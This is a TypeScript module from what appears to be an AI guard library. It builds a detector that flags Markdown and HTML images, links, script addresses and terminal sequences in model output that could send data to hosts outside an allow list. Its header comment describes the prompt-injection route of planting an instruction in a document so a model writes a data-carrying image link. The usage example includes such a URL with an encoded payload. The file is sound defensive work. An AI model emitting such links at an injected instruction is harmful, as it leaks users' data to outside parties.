/**
 * The exfiltration detector: what makes a reader's program send data somewhere when a model's answer is shown.
 *
 * An answer is text that a browser or terminal turns into requests: an image is fetched without a click, a link by one,
 * HTML runs, a terminal obeys. Whoever can make a model write one of these, by an instruction in a document, has a way
 * out for what the model knows. The detector finds Markdown and HTML images, links and what else loads or runs, to hosts
 * outside an allow list; addresses that carry data; script and data addresses; terminal sequences.
 *
 * Of requests it reads what tools and documents say, where addresses that carry data, or have a place to fill data in,
 * are instructions to do the same. What users write themselves is theirs.
 *
 * It does not judge what is said in words («visit evil dot com»), links that were shortened, or what allowed hosts
 * do with what they get.
 *
 * @module
 */

import type { DetectContext, Detector, Scan } from "../../detector.ts";
import { NOTHING_TO_FIND, readByScan } from "../../scan.ts";
import { compileHosts } from "./hosts.ts";
import { TAG_BOUND } from "./html.ts";
import { REQUEST_RULES, type ExfiltrationRule } from "./rules.ts";
import { nextTrigger, openExfiltrationScan } from "./scan.ts";
import { createJudge } from "./target.ts";

export interface ExfiltrationOptions {
  /** Hosts that may be addressed: `docs.example.com`, `example.com:8080`, `*.example.com`. Default: none. */
  readonly allowHosts?: readonly string[];
  /**
   * Which links to other hosts are findings: `all`, or those that carry `data` or disguise their host. Images and what
   * else loads without a click are findings always. Default: `all` with an allow list, `data` without one.
   */
  readonly links?: "all" | "data";
  /** UTF-16 units of a `data:` image that may pass. Default: 0, no such image. At most 4,000. */
  readonly dataImageLimit?: number;
  /** Rules that are not reported. */
  readonly ignore?: readonly ExfiltrationRule[];
}

/**
 * Makes an exfiltration detector.
 *
 * @throws `guard.host-invalid`
 *
 * @example
 * ```ts
 * import { createExfiltrationDetector } from "holdfast/guard";
 *
 * const detector = createExfiltrationDetector({ allowHosts: ["docs.example.com", "*.example.net"] });
 * const context = { direction: "response", origin: "assistant", pointer: "/choices/0/message/content" } as const;
 * detector.detect("![chart](https://docs.example.com/chart.png)", context); // nothing
 * detector.detect("![ ](https://other.example/p?d=c2VjcmV0)", context); // exfiltration.image-data, units 0 to 44
 * ```
 */
export function createExfiltrationDetector(options: ExfiltrationOptions = {}): Detector {
  const { allowHosts, ignore = [], dataImageLimit = 0 } = options;
  const isAllowed = compileHosts(allowHosts ?? []);
  const plainLinks = (options.links ?? (allowHosts === undefined ? "data" : "all")) === "all";
  const ignored = new Set<ExfiltrationRule>(ignore);
  const judges = {
    request: createJudge({ isAllowed, plainLinks: false, placeholders: true, dataImageLimit }),
    response: createJudge({ isAllowed, plainLinks, placeholders: false, dataImageLimit }),
  };

  const open = ({ direction, origin, pointer }: DetectContext): Scan => {
    if (direction === "request" && origin !== "tool" && origin !== "document") return NOTHING_TO_FIND;
    const isReported = (rule: ExfiltrationRule): boolean =>
      !ignored.has(rule) && (direction === "response" || REQUEST_RULES.has(rule));
    return openExfiltrationScan({ pointer, judge: judges[direction], isReported });
  };

  const { detect, read } = readByScan(open);
  return {
    id: "exfiltration",
    version: "1.0.0",
    directions: ["request", "response"],
    longestMatch: TAG_BOUND,
    cost: "cheap",
    detect: (text, context) => (nextTrigger(text, 0) === text.length ? [] : detect(text, context)),
    read,
    open,
  };
}

/** The exfiltration detector without an allow list: every host is another. */
export const exfiltrationDetector: Detector = createExfiltrationDetector();
